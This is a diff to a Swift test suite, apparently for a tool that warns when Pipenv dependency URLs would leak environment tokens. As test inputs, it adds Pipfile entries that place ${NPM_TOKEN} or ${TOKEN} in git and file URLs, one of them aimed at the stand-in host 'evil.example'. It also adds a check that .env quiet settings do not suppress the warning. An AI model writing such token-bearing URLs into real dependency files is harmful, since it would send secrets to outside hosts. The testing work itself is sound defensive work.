@@ -90,6 +90,8 @@ import Testing
             "demo = {git = \"http://${TOKEN}@${WHERE}/r.git\"}",
             "demo = {git = \"http://\(listener.address)/${NPM_TOKEN}/r.git\"}",
             "demo = {git = \"git://git.example/${TOKEN}/r.git\"}",
+            "demo = {git = \"evil.example:${NPM_TOKEN}/r.git\"}",
+            "demo = {git = \"${WHERE}/${TOKEN}/://git.example/r.git\"}",
             "demo = {file = \"http://${NPM_TOKEN}@\(listener.address)/demo-1.0-py3-none-any.whl\"}",
             "demo = {file = \"http://${TOKEN}@${WHERE}/demo-1.0-py3-none-any.whl\"}",
         ] {
@@ -113,7 +115,10 @@ import Testing
         try place.write(Self.pipfile("http://${TOKEN}@\(index.address)/simple"), to: "Pipfile")
         #expect(try !isTold(["lock", "--quiet"]))
         #expect(try !isTold(["lock"], ["PIPIT_SEND_VARIABLES": "TOKEN@\(index.address)"]))
+        // What the project sets does not keep it from being told.
+        try place.write("PIPENV_QUIET=1\nPIPENV_VERBOSITY=-1\n", to: ".env")
         #expect(try isTold(["lock"]))
+        try Files.remove(Paths.join(place.project, ".env"))
         #expect(try !isTold(["lock"]))
         #expect(try !isTold(["install"]))
         // The project's own files cannot say that it was told.
